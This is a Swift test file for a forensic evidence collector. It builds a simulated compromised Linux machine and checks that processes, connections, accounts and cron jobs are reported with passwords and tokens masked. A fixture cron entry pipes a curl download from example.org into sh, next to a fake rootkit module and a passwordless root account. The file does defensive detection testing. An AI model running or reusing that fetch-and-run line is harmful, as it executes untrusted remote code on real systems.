import Fleet
import Forensics
import Foundation
import Synchronization
import TestSupport
import Testing

@testable import AgentSystem

/// The evidence of a machine that is made up, file by file.
struct EvidenceTests {
    /// A machine: a folder with the files and links of `/proc` and `/etc` that matter.
    private struct Machine {
        let root: URL

        init() throws {
            root = URL(filePath: NSTemporaryDirectory()).appending(path: UUID().uuidString)
            try put("proc/stat", "cpu 1 2 3\nbtime 1790000000\n")
            try process(1, "systemd", "0", ["/sbin/init", "splash"], exe: "usr/sbin/init")
            try process(
                42, "my sql)d", "1001", ["/opt/x", "--password=geheim", "-P", "3306"],
                exe: "opt/gone (deleted)")
            try put("usr/sbin/init", "the program")
            try put(
                "proc/42/maps",
                """
                7f00-7f10 r-xp 00000000 08:01 12 /usr/lib/libx.so.1 (deleted)
                7f10-7f20 r--p 00000000 08:01 12 /usr/lib/libx.so.1 (deleted)

                """)
            try link("proc/42/fd/3", "socket:[777]")
            try link("proc/42/fd/4", "/tmp/payload (deleted)")
            try put(
                "proc/net/tcp",
                """
                  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
                   0: 0100007F:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 555 1
                   1: 0200000A:A0B1 0101A8C0:01BB 01 00000000:00000000 00:00000000 00000000  1001        0 777 1
                   broken

                """)
            try put(
                "proc/net/route",
                "Iface\tDestination\tGateway\tFlags\tRefCnt\tUse\tMetric\tMask\neth0\t00000000\t0100000A\t0003\t0\t0\t0\t00000000\n"
            )
            try put("proc/modules", "rootkit 16384 0 - Live 0x0 (OE)\n")
            try put("proc/sys/kernel/tainted", "12288\n")
            try put("proc/self/mountinfo", "22 27 0:21 / / rw - cifs //s/x rw,password=geheim\n")
            try put(
                "etc/passwd",
                """
                root:x:0:0:root:/root:/bin/bash
                daemon:x:1:1::/:/usr/sbin/nologin
                toor:x:0:0::/root:/bin/sh

                """)
            try put("etc/shadow", "root:$y$j9T$secrethash:19000:0\ntoor::19001:0\n")
            try put("etc/group", "sudo:x:27:anna,bert\nusers:x:100:anna\n")
            try put(
                "root/.ssh/authorized_keys",
                "# mine\nfrom=\"10.0.0.1\" ssh-ed25519 QUJD anna@example.org\n")
            try put("etc/cron.d/evil", "* * * * * root curl https://u:geheim@example.org | sh\n")
            try put("var/log/auth.log", "sshd: Accepted password for anna\nlogin token=geheim x\n")
        }

        func put(_ path: String, _ text: String) throws {
            let file = root.appending(path: path)
            try FileManager.default.createDirectory(
                at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
            try Data(text.utf8).write(to: file)
        }

        func link(_ path: String, _ target: String) throws {
            let file = root.appending(path: path)
            try FileManager.default.createDirectory(
                at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
            try FileManager.default.createSymbolicLink(
                atPath: file.path, withDestinationPath: target)
        }

        func process(
            _ pid: Int, _ name: String, _ user: String, _ command: [String], exe: String
        ) throws {
            let folder = "proc/\(pid)"
            let fields = (4...22).map { $0 == 22 ? "500" : "0" }.joined(separator: " ")
            try put("\(folder)/stat", "\(pid) (\(name)) S \(fields) 0 0\n")
            try put("\(folder)/comm", "\(name)\n")
            try put("\(folder)/status", "Name:\t\(name)\nUid:\t\(user)\t\(user)\t0\t0\n")
            try put("\(folder)/cmdline", command.joined(separator: "\0") + "\0")
            try link("\(folder)/exe", "\(root.path)/\(exe)")
        }

        func remove() { try? FileManager.default.removeItem(at: root) }
    }

    private func sections(
        _ machine: Machine, seconds: Int64 = 120
    ) async -> [EvidenceSection.Name: EvidenceSection] {
        let now = Timestamp(seconds: Int64(Date().timeIntervalSince1970))
        let evidence = SystemEvidence(
            root: machine.root.path, asksPrograms: false, clock: { now })
        let all = await evidence.sections(until: now.adding(seconds: seconds))
        #expect(all.map(\.name) == EvidenceSection.Name.allCases)
        return Dictionary(uniqueKeysWithValues: all.map { ($0.name, $0) })
    }

    private func lines(
        _ name: EvidenceSection.Name, _ found: [EvidenceSection.Name: EvidenceSection]
    ) -> [String] {
        found[name]?.lines ?? []
    }

    @Test func `processes are told with what they run and hold, and no secrets`() async throws {
        let machine = try Machine()
        defer { machine.remove() }
        let found = await sections(machine)
        let processes = lines(.processes, found)
        #expect(processes.count == 2)
        #expect(
            processes.first
                == "pid=1 parent=0 user=0 state=S since=2026-09-21T14:13:25Z name=systemd "
                + "command=/sbin/init splash")
        #expect(processes.last?.contains("name=my\\u{20}sql)d") == true)
        #expect(processes.last?.hasSuffix("command=/opt/x --password=*** -P 3306") == true)
        let programs = lines(.executables, found)
        #expect(programs.count == 2)
        #expect(
            programs.first
                == "sha256=50fda23bf0a5115d4f893dc10d122c10a4705f47688f5620e80611c092d4053e "
                + "pids=1 path=\(machine.root.path)/usr/sbin/init")
        #expect(programs.last?.hasPrefix("sha256=unknown deleted pids=42 ") == true)
        #expect(
            lines(.deletedFiles, found) == [
                "pid=42 file=4 path=/tmp/payload", "pid=42 runs-code-of=/usr/lib/libx.so.1",
            ])
    }

    @Test func `sockets are told with the process that holds them`() async throws {
        let machine = try Machine()
        defer { machine.remove() }
        let found = await sections(machine)
        #expect(
            lines(.connections, found) == [
                "tcp ESTABLISHED local=10.0.0.2:41137 remote=192.168.1.1:443 user=1001 pid=42 "
                    + "name=my\\u{20}sql)d"
            ])
        #expect(lines(.listeners, found) == ["tcp LISTEN local=127.0.0.1:22 user=0"])
        #expect(
            lines(.network, found) == ["route 0.0.0.0 mask=0.0.0.0 by=10.0.0.1 interface=eth0"])
        #expect(
            lines(.kernelModules, found) == [
                "tainted 12288", "module rootkit 16384 0 - Live 0x0 (OE)",
            ])
        #expect(lines(.mounts, found).first?.hasSuffix("rw,password=***") == true)
    }

    @Test func `accounts are told without their passwords, keys by their digests`() async throws {
        let machine = try Machine()
        defer { machine.remove() }
        let found = await sections(machine)
        let accounts = lines(.accounts, found)
        #expect(
            accounts.contains(
                "account toor user=0 group=0 home=/root shell=/bin/sh password=empty "
                    + "changed=2022-01-09T00:00:00Z"))
        #expect(accounts.contains { $0.hasPrefix("account root ") && $0.contains("password=set") })
        #expect(!accounts.contains { $0.contains("daemon") })
        #expect(accounts.contains("group sudo members=anna,bert"))
        #expect(
            accounts.contains(
                "key root ssh-ed25519 "
                    + "sha256=b5d4045c3f466fa91fe2cc6abe79232a1a57cdf104f7a26e716e0a1e2789df78 "
                    + "has-options file=/root/.ssh/authorized_keys"))
        #expect(lines(.scheduledTasks, found).contains { $0.hasSuffix(" path=/etc/cron.d/evil") })
        let recent = lines(.recentFiles, found)
        #expect(recent.contains { $0.hasPrefix("file mode=0") && $0.hasSuffix("/etc/passwd") })
        for section in found.values {
            for line in section.lines {
                #expect(!line.contains("geheim") && !line.contains("secrethash"), "\(line)")
            }
        }
    }

    @Test func `what cannot be read says so, and nothing goes beyond its time`() async throws {
        let machine = try Machine()
        defer { machine.remove() }
        let late = await sections(machine, seconds: 0)
        #expect(late.values.allSatisfy { $0.isTruncated && $0.lines.isEmpty && $0.failure != nil })
        try FileManager.default.removeItem(at: machine.root.appending(path: "proc"))
        let found = await sections(machine)
        #expect(found[.processes]?.failure != nil)
        #expect(found[.connections]?.failure != nil)
        #expect(found[.packageIntegrity]?.failure != nil)
        #expect(found[.accounts]?.failure == nil)
    }

    private final class Looks: Sendable {
        private let count = Mutex<Int64>(0)

        func next() -> Int64 {
            count.withLock { count in
                count += 1
                return count
            }
        }
    }

    @Test func `this machine's own evidence stays within its bounds`() async throws {
        let now = Timestamp(seconds: Int64(Date().timeIntervalSince1970))
        // Time goes on with each look at it: the same work is done however busy the machine is.
        let looks = Looks()
        let evidence = SystemEvidence(root: "", asksPrograms: false) {
            Timestamp(milliseconds: now.milliseconds + 50 * looks.next())
        }
        let endpoint = try #require(EndpointID("ept_01k00000000000000000000000"))
        let id = try #require(EvidenceID("evd_01k00000000000000000000000"))
        let bundle = EvidenceBundle(
            id: id, endpoint: endpoint, takenAt: now, reason: .ordered, vulnerabilities: [],
            job: nil, agentVersion: "1", bootId: "b",
            sections: await evidence.sections(until: now.adding(seconds: 120)))
        #expect(bundle.fault == nil)
        #if os(Linux)
            #expect(bundle.lack == nil)
        #endif
        let bytes = try JSONEncoder().encode(bundle).count
        #expect(bytes <= EvidenceLimits.bundleBytes)
    }

    @Test(arguments: [
        (["mysql", "-pgeheim", "-u", "x"], "mysql -p*** -u x"),
        (["x", "--token", "abc", "y"], "x --token *** y"),
        (["ssh", "-p", "22"], "ssh -p 22"), (["DB_PASSWORD=x", "run"], "DB_PASSWORD=*** run"),
        (["curl", "-H", "Authorization: Bearer abc"], "curl -H Authorization: Bearer ***"),
        (["psql", "postgres://u:pw@h:5/db"], "psql postgres://u:***@h:5/db"),
        (["x", "http://h:80/p", "a:b@c"], "x http://h:80/p a:b@c"), ([], ""),
        (["x", "--env=DB_PASSWORD=y"], "x --env=DB_PASSWORD=***"),
        (["x", "--set=auth.password=y,b=1"], "x --set=auth.password=***"),
        (["x", "https://h/?user=a&password=b"], "x https://h/?user=a&password=***"),
        (["x", "https://u:pw@h/?token=a"], "x https://u:***@h/?token=***"),
        (["x", "{\"password\":\"y\"}"], "x {\"password\":***"),
        (["mount", "vers=3,user=a,password=y"], "mount vers=3,user=a,password=***"),
        (["/usr/bin/curl", "-u", "a:b", "h"], "/usr/bin/curl -u *** h"),
        (["sshpass", "-p", "y", "ssh"], "sshpass -p *** ssh"),
    ])
    func `what looks like a secret is masked`(words: [String], line: String) {
        #expect(SecretMask.arguments(words).joined(separator: " ") == line)
    }
}
